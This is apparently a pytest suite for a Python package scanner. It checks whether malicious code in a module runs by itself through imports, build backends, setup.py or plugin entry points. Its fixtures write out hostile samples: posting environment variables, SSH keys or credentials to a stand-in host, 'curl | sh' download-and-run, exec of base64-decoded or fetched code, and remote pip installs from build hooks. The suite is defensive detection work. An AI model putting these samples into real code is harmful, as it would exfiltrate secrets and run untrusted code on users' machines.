"""What modules do by themselves because another module of the package calls them."""

# ruff: noqa: E501  # programs on one line

from collections.abc import Mapping
from pathlib import Path

import pytest

from package_gate.core.module_graph import ModuleGraph, imported_names
from package_gate.core.source import read_source
from package_gate.inventory.running.files import RunningFiles
from package_gate.scanners.behaviour.package import PackageBehaviour, Seen

HARM = (
    "import os\nimport requests\n\ndef send():\n"
    "    requests.post('https://a.example', json=dict(os.environ))\n"
)
AGENT = (
    "import os\nfrom threading import Thread\nimport requests\n\nclass Agent(Thread):\n"
    "    def run(self):\n        requests.post('https://a.example', json=dict(os.environ))\n"
    "    def tell(self):\n        requests.put('https://a.example', json=dict(os.environ))\n"
)
WHEEL, SDIST = "sample-1.0-py3-none-any.whl", "sample-1.0.tar.gz"


def rules(tree: Path, files: Mapping[str, str], path: str, filename: str = WHEEL) -> set[str]:
    for name, text in files.items():
        file = tree / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    package = PackageBehaviour(tree, RunningFiles(tree, filename), Seen.nothing(1))
    return {each.rule for each in package.of(path) if not each.waits}


@pytest.mark.parametrize(
    "caller",
    [
        "from . import bad\nbad.send()",
        "from .bad import send\nsend()",
        "from .bad import send as s\ntry:\n    s()\nexcept Exception:\n    pass",
        "from .bad import *\nsend()",
        "from sample.bad import send\nsend()",
        "import sample.bad\nsample.bad.send()",
        "import threading\nfrom .bad import send\nthreading.Thread(target=send).start()",
        "import atexit\nfrom . import (\n    bad,\n)\natexit.register(bad.send)",
        "from .bad import send\n@send\ndef f():\n    pass",
        "from .bad import send\ndef f():\n    send()\nf()",
        "if True: from . import bad; bad.send()",
        "from .bad import send\nx: send() = 1",
        "from .bad import send\nclass C:\n    x: send()",
        "from .bad import send\ndef f(a: send()): pass",
        "from .bad import send\nif True:\n    async def f(*, a: int, b: list[send()] = 1): pass",
        "from .bad import send\ndef f() -> send(): pass",
        "from .bad import send\ntry:\n    pass\nexcept E:\n    x: send() = 1",
    ],
)
def test_a_function_that_another_module_calls_runs_by_itself(tmp_path: Path, caller: str) -> None:
    files = {"sample/__init__.py": caller, "sample/bad.py": HARM}

    assert rules(tmp_path, files, "sample/bad.py") == {"sends-secrets"}


@pytest.mark.parametrize(
    "caller",
    [
        "from . import bad",
        "from .bad import send\ndef f():\n    send()",
        "import click\nfrom .bad import send\nclick.command()(send)",
        "from .bad import other\nother()",
        "from elsewhere.bad import send\nsend()",
        "from .bad import send\nif __name__ == '__main__':\n    send()",
    ],
)
def test_a_function_that_waits_does_not(tmp_path: Path, caller: str) -> None:
    files = {"sample/__init__.py": caller, "sample/bad.py": HARM}

    assert rules(tmp_path, files, "sample/bad.py") == set()


def test_calls_are_followed_through_modules_in_between(tmp_path: Path) -> None:
    files = {
        "sample/__init__.py": "from .a import begin\nbegin()",
        "sample/a.py": "from .b import go\ndef begin():\n    go()",
        "sample/b.py": "from . import bad\ndef go():\n    bad.send()",
        "sample/bad.py": HARM,
    }

    assert rules(tmp_path, files, "sample/bad.py") == {"sends-secrets"}


def test_modules_that_call_each_other_in_a_circle_come_to_an_end(tmp_path: Path) -> None:
    files = {
        "sample/__init__.py": "",
        "sample/a.py": "from .bad import send\ndef f():\n    send()",
        "sample/bad.py": f"from .a import f\n{HARM}    f()\n",
    }

    assert rules(tmp_path, files, "sample/bad.py") == set()


@pytest.mark.parametrize(
    ("caller", "found"),
    [
        ("from .agent import Agent\nAgent().start()", {"sends-secrets"}),
        ("from .agent import Agent\nAgent().tell()", {"sends-secrets"}),
        ("from .agent import Agent\nagent = Agent()\nagent.tell()", {"sends-secrets"}),
        ("from .agent import Agent\nclass Mine(Agent):\n    pass", set()),
    ],
)
def test_a_class_runs_with_what_is_called_of_it(
    tmp_path: Path, caller: str, found: set[str]
) -> None:
    files = {"sample/__init__.py": caller, "sample/agent.py": AGENT}

    assert rules(tmp_path, files, "sample/agent.py") == found


@pytest.mark.parametrize("starter", ["sample/tests/test_bad.py", "sample/__main__.py"])
def test_what_somebody_has_to_start_calls_nothing_by_itself(tmp_path: Path, starter: str) -> None:
    call = "from sample.bad import send\nsend()"
    files = {"sample/__init__.py": "", starter: call, "sample/bad.py": HARM}
    assert rules(tmp_path, files, "sample/bad.py") == set()

    module = starter.removesuffix(".py").replace("/", ".")
    files["sample/__init__.py"] = f"import {module}"
    assert rules(tmp_path, files, "sample/bad.py") == {"sends-secrets"}


@pytest.mark.parametrize(
    ("path", "caller", "counts"),
    [
        (
            "sample/test_util.py",
            "from importlib import import_module\nimport_module('sample.test_util').send()",
            True,
        ),
        (
            "sample/tests/helper.py",
            "getattr(__import__('sample.tests.helper', fromlist=['x']), 'send')()",
            True,
        ),
        (
            "sample/tests/\u0442\u0435\u0441\u0442.py",
            "getattr(__import__('sample.tests.\u0442\u0435\u0441\u0442', fromlist=['x']), 'send')()",
            True,
        ),
        ("sample/tests/helper.py", "from os import helper", False),
        ("sample/tests/helper.py", "", False),
    ],
)
def test_a_test_that_is_named_elsewhere_is_not_left_to_whoever_runs_tests(
    tmp_path: Path, path: str, caller: str, counts: bool
) -> None:
    files = {
        "sample/__init__.py": caller,
        path: HARM,
        "sample/tests/test_it.py": "import sample.tests.helper",
    }
    rules(tmp_path, files, path)
    package = PackageBehaviour(tmp_path, RunningFiles(tmp_path, WHEEL), Seen.nothing(1))

    assert {each.rule for each in package.of(path)} == ({"sends-secrets"} if counts else set())


@pytest.mark.parametrize(
    ("importer", "imported"),
    [
        ("sample/__init__.py", "s-1.0.data/purelib/sample/bad.py"),
        ("s-1.0.data/platlib/sample/__init__.py", "sample/bad.py"),
        ("s-1.0.data/platlib/sample/__init__.py", "s-1.0.data/purelib/sample/bad.py"),
    ],
)
@pytest.mark.parametrize("call", ["from .bad import send", "from sample.bad import send"])
def test_modules_of_a_wheel_meet_where_they_land(
    tmp_path: Path, importer: str, imported: str, call: str
) -> None:
    assert rules(tmp_path, {importer: f"{call}\nsend()", imported: HARM}, imported) == {
        "sends-secrets"
    }


def test_a_folder_is_imported_before_a_file_of_its_name(tmp_path: Path) -> None:
    files = {
        "sample/__init__.py": "from .bad import send\nsend()",
        "sample/bad.py": "def send(): pass",
        "sample/bad/__init__.py": HARM,
    }

    assert rules(tmp_path, files, "sample/bad/__init__.py") == {"sends-secrets"}


def test_what_setup_or_a_build_backend_calls_runs_on_installation(tmp_path: Path) -> None:
    setup = {
        "a-1/setup.py": "from tools.bad import send\nclass B:\n    def run(self):\n        send()",
        "a-1/tools/__init__.py": "",
        "a-1/tools/bad.py": HARM,
    }
    assert rules(tmp_path / "1", setup, "a-1/tools/bad.py", SDIST) == {"sends-secrets"}
    hook = HARM.replace("send()", "build_wheel(directory)")
    backend = {
        "b-1/pyproject.toml": "[build-system]\nbuild-backend = 'own'\nbackend-path = ['_build']",
        "b-1/_build/own.py": hook,
    }
    assert rules(tmp_path / "2", backend, "b-1/_build/own.py", SDIST) == {"sends-secrets"}
    backend["b-1/pyproject.toml"] = "[build-system]\nbuild-backend = 'setuptools.build_meta'"
    assert rules(tmp_path / "3", backend, "b-1/_build/own.py", SDIST) == set()


def test_what_is_remembered_of_one_archive_hides_nothing_in_another_one(tmp_path: Path) -> None:
    """The same files, but only the second archive names the build backend that begins it."""
    files = {
        "b-1/_build/__init__.py": "",
        "b-1/_build/own.py": "from .bad import send\ndef build_wheel(directory):\n    send()",
        "b-1/_build/bad.py": HARM,
    }
    named = "[build-system]\nbuild-backend = 'own'\nbackend-path = ['_build']"
    seen, found = Seen.nothing(2), []
    for number, project in enumerate(("", named)):
        tree = tmp_path / str(number)
        rules(tree, {**files, "b-1/pyproject.toml": project}, "b-1/_build/bad.py", SDIST)
        package = PackageBehaviour(tree, RunningFiles(tree, SDIST), seen)
        of_bad = package.of("b-1/_build/bad.py")
        found.append([each.rule for each in of_bad if not each.waits])
    assert found == [[], ["sends-secrets"]]


def test_a_caller_that_is_no_python_is_passed_over(tmp_path: Path) -> None:
    files = {"sample/__init__.py": "from .bad import send\nsend(", "sample/bad.py": HARM}

    assert rules(tmp_path, files, "sample/bad.py") == set()


def test_names_are_resolved_as_python_does() -> None:
    graph = ModuleGraph(
        dict.fromkeys(["p/__init__.py", "p/q/__init__.py", "p/q/m.py", "t.py"], b"")
    )

    assert graph.resolve("p/q/m.py", ".x") == ("p/q/__init__.py", "x")
    assert graph.resolve("p/q/m.py", "..x.y") == ("p/__init__.py", "x.y")
    assert graph.resolve("p/__init__.py", "p.q.m.f") == ("p/q/m.py", "f")
    assert graph.resolve("p/q/m.py", "t.f") == ("t.py", "f")
    assert graph.resolve("p/q/m.py", "os.system") == ("", "")
    assert graph.resolve("t.py", "....x") == ("", "")
    assert graph.resolve("t.py", "p.q.m." + "x." * 100_000 + "y")[0] == "p/q/m.py"


@pytest.mark.parametrize(
    ("code", "names"),
    [
        ("from . import a, b as c", {".", ".a", ".b"}),
        ("from .a import (b,\n  c)", {".a", ".a.b", ".a.c"}),
        ("from . a . b import c", {".a.b", ".a.b.c"}),
        ("from..a import*", {"..a"}),
        ("import a . b, \\\n c as d; import e", {"a.b", "c", "e"}),
        ("import \u0430, \uff42", {"\u0430", "b"}),
        ("# coding: latin-1\nimport \u00e9", {"\u00e9"}),
        ("# from a import (\nfrom .b import c\n# )", {".b", ".b.c"}),
        ("text = 'from a import ('\nimport b", {"b"}),
        ("from import_a import b", {"import_a", "import_a.b"}),
    ],
)
def test_names_of_imports_are_read_as_python_reads_them(code: str, names: set[str]) -> None:
    content = code.encode("latin-1" if "latin" in code else "utf-8")

    assert names <= set(imported_names(read_source(content).code))


@pytest.mark.parametrize("piece", [b".", b" ", b"a , ", b"from ", b"a as ", b". "])
def test_long_imports_take_no_time_by_the_square(piece: bytes) -> None:
    for start in (b"import ", b"from ", b"from a import "):
        list(imported_names(start + piece * 300_000 + b"1"))


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("sends-secrets", "import os, requests\ndef f():\n    requests.post('https://a', json=dict(os.environ))"),
        ("sends-secrets", "import os, requests\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://a', data=key)"),
        ("sends-secrets", "import requests, subprocess\ndef f():\n    requests.post('https://a', data=subprocess.check_output(['printenv']))"),
        ("sends-secrets", "import os, requests\ndef f():\n    requests.post('https://a', data=os.popen('env | base64').read())"),
        ("runs-decoded-code", "import base64\ndef f():\n    exec(base64.b64decode('aW1wb3J0IG9z'))"),
        ("runs-decoded-code", "import base64\nF = ''\ndef f(x):\n    global F\n    F = x\n    exec(base64.b64decode(F))"),
        ("runs-decoded-code", "import base64\nF = ''\nF += 'aW1wb3J0IG9z'\ndef f():\n    exec(base64.b64decode(F))"),
        ("runs-downloaded-code", "import os\ndef f():\n    os.system('curl -s https://a.example/x | sh')"),
    ],
)  # fmt: skip
def test_what_looks_like_malware_counts_in_a_function_that_waits_too(
    tmp_path: Path, rule: str, code: str
) -> None:
    (tmp_path / "sample.py").write_text(code)
    package = PackageBehaviour(tmp_path, RunningFiles(tmp_path, WHEEL), Seen.nothing(1))

    (found,) = (each for each in package.of("sample.py") if each.rule != "sends-host-facts")

    assert (found.rule, found.waits, len(found.fingerprint)) == (rule, True, 64)


@pytest.mark.parametrize(
    "code",
    [
        "import os, requests\ndef f():\n    requests.get('https://a', headers={'A': os.environ['API_TOKEN']})",
        "import os, requests\ndef f():\n    key = open(os.path.expanduser('~/.aws/credentials')).read()\n    requests.get('https://a', headers={'A': key})",
        "import pickle, requests\ndef load(url):\n    return pickle.loads(requests.get(url).content)",
        "import marshal, zlib\ndef cached(data):\n    exec(marshal.loads(zlib.decompress(data)))",
        "import os\ndef install():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        "import socket, requests\ndef f():\n    requests.post('https://a', json={'host': socket.gethostname()})",
        "import os, requests, subprocess\ndef f(c):\n    done = subprocess.run(c, env=dict(os.environ), capture_output=True)\n    requests.post('https://a', data=done.stdout)",
        "import os, requests, subprocess\nfrom subprocess import Popen\ndef start(c, extra):\n    env = os.environ.copy()\n    env.update(extra)\n    return Popen(c, env=env)\ndef f(c):\n    requests.post('https://a', json={'pid': start(c, {}).pid})",
        "import asyncio, os, requests, subprocess\nasync def f(c):\n    done = await asyncio.to_thread(subprocess.run, c, env=os.environ.copy(), stdout=subprocess.PIPE)\n    requests.post('https://a', data=done.stdout)",
        "import os, requests, subprocess\nclass OwnPopen(subprocess.Popen):\n    pass\ndef f(c):\n    p = OwnPopen(c, env=os.environ.copy())\n    requests.post('https://a', json={'pid': p.pid})",
        "import base64\nFRAMES = ''\ndef driver():\n    exec(base64.b64decode(FRAMES))",
    ],
)  # fmt: skip
def test_what_clients_and_loaders_do_when_they_are_called_does_not(
    tmp_path: Path, code: str
) -> None:
    (tmp_path / "sample.py").write_text(code)
    package = PackageBehaviour(tmp_path, RunningFiles(tmp_path, WHEEL), Seen.nothing(1))

    assert package.of("sample.py") == []


SEND_ALL = (
    "import os, requests\n{}\n    requests.post('https://a.example', json=dict(os.environ))\n"
)


@pytest.mark.parametrize(
    ("group", "value", "definition"),
    [
        ("pytest11", "sample.plugin", "def pytest_configure(config):"),
        ("pytest11", "sample.plugin", "def pytest_sessionstart(session):"),
        ("flake8.extension", "sample.plugin:Check", "class Check:\n  def __init__(self, tree):"),
        ("jupyter_serverproxy_servers", "sample.plugin:begin", "def begin():"),
        ("", "", "def _load_jupyter_server_extension(app):"),
        ("", "", "def load_ipython_extension(shell):"),
    ],
)
def test_what_a_host_calls_by_itself_runs_by_itself(
    tmp_path: Path, group: str, value: str, definition: str
) -> None:
    files = {"sample/__init__.py": "", "sample/plugin.py": SEND_ALL.format(definition)}
    if group:
        files["sample-1.0.dist-info/entry_points.txt"] = f"[{group}]\nx = {value}\n"

    assert rules(tmp_path, files, "sample/plugin.py") == {"sends-secrets"}


BACKEND = "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['b']\n"
PIP = "subprocess.run([sys.executable, '-m', 'pip', 'install', 'https://a.example/x.zip'])"


@pytest.mark.parametrize(
    ("own", "other", "path"),
    [
        ("def f(settings=None): HARM\nbuild_wheel = f", "", "own"),
        ("class Own:\n    def build_wheel(self, folder): HARM\nown = Own()", "", "own"),
        ("class Own:\n    def f(self, folder): HARM\n    build_sdist = f\nown = Own()", "", "own"),
        ("from other import f as build_wheel", "def f(folder): HARM", "other"),
        ("from .other import f as build_wheel", "def f(folder): HARM", "other"),
    ],
)
def test_a_hook_of_a_backend_runs_whatever_it_is_called(
    tmp_path: Path, own: str, other: str, path: str
) -> None:
    files = {"pyproject.toml": BACKEND, "b/own.py": own, "b/other.py": other}
    written = {f"s-1.0/{name}": text.replace("HARM", PIP) for name, text in files.items()}
    for name in ("s-1.0/b/own.py", "s-1.0/b/other.py"):
        written[name] = f"import subprocess, sys\n{written[name]}\n"

    assert rules(tmp_path, written, f"s-1.0/b/{path}.py", SDIST) == {"installs-another-package"}


def test_what_a_backend_has_besides_its_hooks_waits(tmp_path: Path) -> None:
    own = f"import subprocess, sys\ndef build_wheel(folder): pass\ndef main():\n    {PIP}\n"
    files = {"s-1.0/pyproject.toml": BACKEND, "s-1.0/b/own.py": own}

    assert rules(tmp_path, files, "s-1.0/b/own.py", SDIST) == set()


PLUGIN = "sample.tests.plugin:begin"


@pytest.mark.parametrize(
    ("file", "says"),
    [
        ("pyproject.toml", f"[project.entry-points.jupyter_serverproxy_servers]\nx = '{PLUGIN}'\n"),
        ("pyproject.toml", f"[tool.poetry.plugins.flake8]\nx = '{PLUGIN}'\n"),
        ("pyproject.toml", f"[tool.flit.entrypoints.flake8]\nx = '{PLUGIN}'\n"),
        ("setup.cfg", f"[options.entry_points]\nflake8.extension =\n  x = {PLUGIN}\n"),
        ("setup.cfg", f"[entry_points]\nflake8.extension =\n  x = {PLUGIN}\n"),
        ("setup.py", f"from setuptools import setup\nsetup(entry_points={{'a': ['x={PLUGIN}']}})"),
        ("setup.py", f"from setuptools import setup\nsetup(entry_points='[a]\\nx = {PLUGIN}\\n')"),
        ("sample.egg-info/entry_points.txt", f"[flake8.extension]\nx = {PLUGIN}\n"),
    ],
)
@pytest.mark.parametrize("below", ["", "src/"])
def test_what_a_host_loads_of_a_source_tree_runs_by_itself(
    tmp_path: Path, file: str, says: str, below: str
) -> None:
    plugin = f"sample-1.0/{below}sample/tests/plugin.py"
    files = {
        f"sample-1.0/{below}sample/__init__.py": "",
        f"sample-1.0/{below}sample/tests/__init__.py": "",
        plugin: SEND_ALL.format("def begin():"),
        f"sample-1.0/{file}": says,
    }

    assert rules(tmp_path, files, plugin, SDIST) == {"sends-secrets"}


@pytest.mark.parametrize(
    ("file", "says"),
    [
        ("pyproject.toml", f"[project.scripts]\nx = '{PLUGIN}'\n"),
        ("pyproject.toml", f"[project.entry-points.console_scripts]\nx = '{PLUGIN}'\n"),
        ("pyproject.toml", "[project.entry-points.flake8]\nx = 'sample.tests.plugin:other'\n"),
        (
            "setup.py",
            "from setuptools import setup\n"
            f"setup(entry_points={{'console_scripts': ['x={PLUGIN}']}})",
        ),
        ("pyproject.toml", "no = [toml"),
        ("setup.py", "no python"),
    ],
)
def test_a_program_of_a_source_tree_waits_to_be_called(
    tmp_path: Path, file: str, says: str
) -> None:
    files = {
        "sample-1.0/sample/__init__.py": "",
        "sample-1.0/sample/tests/__init__.py": "",
        "sample-1.0/sample/tests/plugin.py": SEND_ALL.format("def begin():"),
        f"sample-1.0/{file}": says,
    }

    assert rules(tmp_path, files, "sample-1.0/sample/tests/plugin.py", SDIST) == set()


def test_a_program_of_the_package_waits_to_be_called(tmp_path: Path) -> None:
    files = {
        "sample/__init__.py": "",
        "sample/plugin.py": SEND_ALL.format("def main():"),
        "sample-1.0.dist-info/entry_points.txt": "[console_scripts]\nx = sample.plugin:main\n",
    }

    assert rules(tmp_path, files, "sample/plugin.py") == set()


@pytest.mark.parametrize(
    "line",
    [
        "x = 1;" + " " * 400 + "print(1)",
        "x = '" + "\U000e0120" * 20 + "'",
        "x = '" + "\u200b\u200c" * 20 + "'",
    ],
    ids=["far right", "variation selectors", "zero width"],
)
def test_code_that_nobody_sees_is_named(tmp_path: Path, line: str) -> None:
    files = {"sample/__init__.py": f"import os\n{line}\n"}

    assert rules(tmp_path, files, "sample/__init__.py") == {"hides-its-code"}


@pytest.mark.parametrize(
    "line", ["x = 1" + " " * 400 + "# a remark", "x = '\u2764\ufe0f'", "x = [1," + " " * 400 + "2]"]
)
def test_what_is_only_far_away_is_not(tmp_path: Path, line: str) -> None:
    assert rules(tmp_path, {"sample/__init__.py": line}, "sample/__init__.py") == set()


GATHER = "import os\ndef gather():\n    return dict(os.environ)\n"
DELIVER = "import requests\ndef deliver(data):\n    requests.post('https://a.example', json=data)\n"


@pytest.mark.parametrize(
    "main",
    [
        "import requests\nfrom .a import gather\nrequests.post('https://a.example', json=gather())",
        "import requests\nfrom . import a\nrequests.post('https://a.example', json=a.gather())",
        "import os\nfrom .b import deliver\ndeliver(dict(os.environ))",
        "from .a import gather\nfrom .b import deliver\ndeliver(gather())",
        "import sample.a\nimport sample.b\nsample.b.deliver(sample.a.gather())",
    ],
)
def test_data_is_followed_from_one_module_to_the_next(tmp_path: Path, main: str) -> None:
    files = {"sample/__init__.py": main, "sample/a.py": GATHER, "sample/b.py": DELIVER}

    assert rules(tmp_path, files, "sample/__init__.py") == {"sends-secrets"}


def test_what_another_module_gives_and_what_is_sent_are_two_things(tmp_path: Path) -> None:
    main = "from .a import gather\nfrom .b import deliver\nX = gather()\ndeliver('hello')"
    files = {"sample/__init__.py": main, "sample/a.py": GATHER, "sample/b.py": DELIVER}

    assert rules(tmp_path, files, "sample/__init__.py") == set()


@pytest.mark.parametrize(
    ("init", "found"), [("", set()), ("from . import __main__", {"sends-secrets"})]
)
def test_a_program_that_is_started_with_m_waits_unless_it_is_imported(
    tmp_path: Path, init: str, found: set[str]
) -> None:
    main = (
        "import os, requests\nrequests.post('https://a', headers={'t': os.environ['API_TOKEN']})\n"
    )
    files = {"sample/__init__.py": init, "sample/__main__.py": main}

    assert rules(tmp_path, files, "sample/__main__.py") == found


GET = "requests.get('https://a.example/x').text"


@pytest.mark.parametrize(
    ("main", "other"),
    [
        ("import sample.b\nexec(sample.b.R.t)", f"class R:\n    t = {GET}"),
        ("import sample.b\nexec(sample.b.R.t)", f"class R:\n    t: str = {GET}"),
        ("from .b import R\nexec(R().t)", f"class R:\n    def __init__(self):\n        self.t = {GET}"),
        ("from .b import R\nr = R()\nexec(r.t)", f"class A:\n    def __init__(self):\n        self.t, self.x = {GET}, 1\nclass R(A): pass"),
        ("from .b import r\nexec(r.t)", f"class R:\n    def __init__(self):\n        self.t = {GET}\nr = R()"),
        ("from .b import R\nexec(R().t)", f"class R:\n    @property\n    def t(self):\n        return {GET}"),
        ("from .b import R\nexec(R().t)", f"class R:\n    @property\n    def t(self):\n        return self.u()\n    def u(self):\n        return {GET}"),
        ("from .b import R\nexec(R().t())", f"class R:\n    def t(self):\n        return {GET}"),
        ("from .b import R\nexec(R.t())", f"class R:\n    @staticmethod\n    def t():\n        return {GET}"),
        ("from .b import R\nfor t in R():\n    exec(t)", f"class R:\n    def __iter__(self):\n        yield {GET}"),
        ("from .b import R\nexec(next(R()))", f"class R:\n    def __next__(self):\n        return {GET}"),
        ("from .b import R\nexec(R()['x'])", f"class R:\n    def __getitem__(self, x):\n        return {GET}"),
        ("from .b import R\nexec(str(R()))", f"class R:\n    def __str__(self):\n        return {GET}"),
        ("from .b import R\nexec(R()())", f"class R:\n    def __call__(self):\n        return {GET}"),
        ("from .b import R\nexec(R().x)", f"class R:\n    def __getattr__(self, x):\n        return {GET}"),
        ("from .b import g\nfor t in g():\n    exec(t)", f"def g():\n    yield {GET}"),
        ("from .b import L\nexec(L[0])", f"L = []\nL.append({GET})"),
        ("from .b import L\nexec(''.join(L))", f"L = []\ndef f():\n    L.extend([{GET}])\nf()"),
        ("from .b import L\nexec(L['a'])", f"L = {{}}\nL['a'] = {GET}"),
        ("from . import b\nexec(b.L['a'])", f"L = {{}}\nL.update(a={GET})"),
        ("from .b import zz\nexec(zz)", f"def __getattr__(name):\n    return {GET}"),
        ("from . import b\nexec(b.zz)", f"def __getattr__(name):\n    return {GET}"),
        ("from .c import L\nexec(L[0])", f"L = []\nL.append({GET})"),
        ("from .c import R\nexec(R().t)", f"class R:\n    def __init__(self):\n        self.t = {GET}"),
        (f"from .b import r\nr({GET})", "r = exec"),
        (f"from .b import r as x\nx({GET})", "import builtins\nr = builtins.exec"),
        (f"from . import b\nb.r({GET})", "q = exec\nr = q"),
        (f"from .c import r\nr({GET})", "r = exec"),
        (f"from .b import R\nR.r({GET})", "class R:\n    r = exec"),
        (f"from .b import r\nr({GET})", "from builtins import exec as r"),
        (f"from .b import D\nD['r']({GET})", "D = {'r': exec}"),
    ],
)  # fmt: skip
def test_what_another_module_gives_in_any_form_is_followed(
    tmp_path: Path, main: str, other: str
) -> None:
    files = {
        "sample/__init__.py": f"import requests\n{main}\n",
        "sample/b.py": f"import requests\n{other}\n",
        "sample/c.py": "from .b import L, R, r\n",
    }

    assert "runs-downloaded-code" in rules(tmp_path, files, "sample/__init__.py")


@pytest.mark.parametrize(
    ("main", "other"),
    [
        ("from .b import R\nexec(R().u)", f"class R:\n    u = 'x = 1'\n    def t(self):\n        return {GET}"),
        ("from .b import R\nexec(R.u)", f"class R:\n    u = 'x = 1'\nclass Q:\n    u = {GET}"),
        ("from .b import u\nexec(u)", f"u = 'x = 1'\ndef __getattr__(name):\n    return {GET}"),
        ("from .b import L\nexec(L[0])", f"L = ['x = 1']\nM = []\nM.append({GET})"),
        (f"from .b import r\nr({GET})", "r = print"),
    ],
)  # fmt: skip
def test_what_another_module_has_besides_is_no_part_of_what_it_gives(
    tmp_path: Path, main: str, other: str
) -> None:
    files = {
        "sample/__init__.py": f"import requests\n{main}\n",
        "sample/b.py": f"import requests\n{other}\n",
    }

    assert "runs-downloaded-code" not in rules(tmp_path, files, "sample/__init__.py")
